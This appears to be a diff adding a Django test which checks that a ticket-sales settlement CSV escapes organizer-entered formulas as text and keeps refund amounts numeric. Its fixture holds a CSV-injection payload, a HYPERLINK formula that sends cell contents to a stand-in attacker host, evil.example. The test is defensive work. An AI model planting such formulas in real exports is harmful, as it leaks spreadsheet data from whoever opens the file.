@@ -367,6 +367,29 @@ def test_exports_write_a_buyers_formula_as_text_and_survive_control_characters(s
         assert any(c.value == "Bellman" for c in values), kind
 
 
+def test_the_settlement_csv_writes_an_organizers_formula_as_text(organizer):
+    """Tax names and registration numbers are typed by organizers, and the settlement goes
+    to a promoter who opens it in a spreadsheet: a formula there is shown as text, as in
+    the other exports; amounts, refunds' negative ones included, stay numbers."""
+    from sales.models import TaxRate
+
+    perf = make_performance(rows=1, per_row=6, price="40.00")
+    quebec_taxes()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Verify")'
+    TaxRate.objects.filter(name="GST").update(name=formula, registration="+1-555-0100")
+    TaxRate.objects.filter(name="QST").update(registration="@SUM(A1:A9)")
+    sold = sell(perf, 2)[0].order
+    order_refund(order=sold, actor=organizer)
+    sell(perf, 1, name="Paul Roy", email="paul@example.org")
+    rows = list(csv.reader(io.StringIO(signed_in(organizer).get(
+        f"/admin/sales/performancedashboard/settlement/{perf.event_id}.csv").content.decode("utf-8-sig"))))
+    cells = [c for row in rows for c in row]
+    assert "'" + formula in cells and "'+1-555-0100" in cells and "'@SUM(A1:A9)" in cells
+    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
+    refunded = next(row for row in rows if row and row[0] == "Total" and len(row) == 4)[2]
+    assert refunded.startswith("-") and Decimal(refunded) < 0  # a number, not text
+
+
 def test_the_settlement_pdf_names_each_performance_whole_and_writes_amounts_as_its_reader_does(organizer):
     """A long venue name is wrapped, not cut; a French organizer reads 1 234,50, not 1234.50;
     and no heading is wider than its column, a long word included."""
